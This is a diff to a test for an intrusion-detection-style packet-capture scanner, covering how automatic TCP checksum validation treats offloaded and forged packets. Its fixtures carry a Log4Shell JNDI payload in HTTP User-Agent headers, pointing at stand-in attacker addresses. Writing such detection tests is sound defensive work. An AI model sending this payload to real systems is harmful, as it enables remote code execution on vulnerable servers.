@@ -111,24 +111,45 @@ test('human output, clean traffic and errors', async () => {
   assert.equal(usage.code, 2);
 });
 
-test('checksums as Suricata reads a pcap file: invalid ones dropped by default (auto), kept with --checksum-checks no', async () => {
+test('checksums: auto decides from the file\'s own sample before inspecting; a capture with offload-broken checksums is inspected, a forged segment among valid ones is dropped', async () => {
   const c = new Conv('203.0.113.80', '198.51.100.10', 45002, 80).handshake();
   c.c('GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.80:1389/a}\r\n\r\n').fin();
-  // Every TCP checksum broken, as in a capture taken on the sending host with checksum offload.
-  const frames = c.frames.map((f) => {
+  const breakSum = (f: PcapRecord): PcapRecord => {
     const d = Uint8Array.from(f.data);
     d[50] = d[50]! ^ 0xff;
     return { ...f, data: d };
-  });
+  };
+  // Every TCP checksum broken, as in a capture taken on the sending host with checksum offload:
+  // more than 1 in 10 of the sample is invalid, so auto turns validation off for the whole file.
+  const frames = c.frames.map(breakSum);
   const file = write('bad-checksums.pcap', frames);
   const auto = await scan(file);
   assert.equal(auto.code, 0, auto.stderr);
-  assert.equal(auto.events.length, 0, 'invalid packets are not inspected');
-  assert.deepEqual(auto.stats.dropped, { bad_checksum: frames.length });
-  assert.match(auto.stderr, /invalid TCP checksum.*--checksum-checks no/);
-  const no = await scan(file, ['--checksum-checks', 'no']);
+  assert.ok(auto.events.some((e) => /Log4Shell/i.test(e.alert.signature)), JSON.stringify(auto.events));
+  assert.deepEqual(auto.stats.dropped, {});
+  assert.deepEqual(auto.stats.checksum, { mode: 'auto', validation: 'off', packets: 0, invalid: 0, sample: { packets: frames.length, invalid: frames.length } });
+  // Validation forced on (Suricata -k all): nothing is inspected, and the CLI says why.
+  const yes = await scan(file, ['--checksum-checks', 'yes']);
+  assert.equal(yes.events.length, 0, 'invalid packets are not inspected');
+  assert.deepEqual(yes.stats.dropped, { bad_checksum: frames.length });
+  assert.match(yes.stderr, /invalid checksum and were not inspected.*--checksum-checks no/);
+
+  // One forged segment (bad checksum) carrying the attack among 20 valid packets: under 1 in 10,
+  // so validation stays on and the forged segment feeds nothing.
+  const d = new Conv('203.0.113.81', '198.51.100.10', 45003, 80).handshake();
+  for (let i = 0; i < 8; i++) d.c(`GET /p${i} HTTP/1.1\r\nHost: victim\r\n\r\n`).s('HTTP/1.1 204 No Content\r\n\r\n');
+  const good = d.frames.length;
+  d.c('GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.81:1389/a}\r\n\r\n');
+  const mixed = [...d.frames.slice(0, good), breakSum(d.frames[good]!)];
+  const file2 = write('one-forged.pcap', mixed);
+  const on = await scan(file2);
+  assert.equal(on.events.length, 0, JSON.stringify(on.events));
+  assert.deepEqual(on.stats.dropped, { bad_checksum: 1 });
+  assert.deepEqual((on.stats.checksum as { validation: string; sample: unknown }).sample, { packets: mixed.length, invalid: 1 });
+  assert.equal((on.stats.checksum as { validation: string }).validation, 'on');
+  assert.match(on.stderr, /1 of \d+ TCP packets have an invalid checksum.*not checksum offload/);
+  const no = await scan(file2, ['--checksum-checks', 'no']);
   assert.ok(no.events.some((e) => /Log4Shell/i.test(e.alert.signature)), JSON.stringify(no.events));
-  assert.deepEqual(no.stats.dropped, {});
   const bad = await run(process.execPath, [bin, 'scan', file, '--checksum-checks', 'maybe']);
   assert.equal(bad.code, 2);
 });
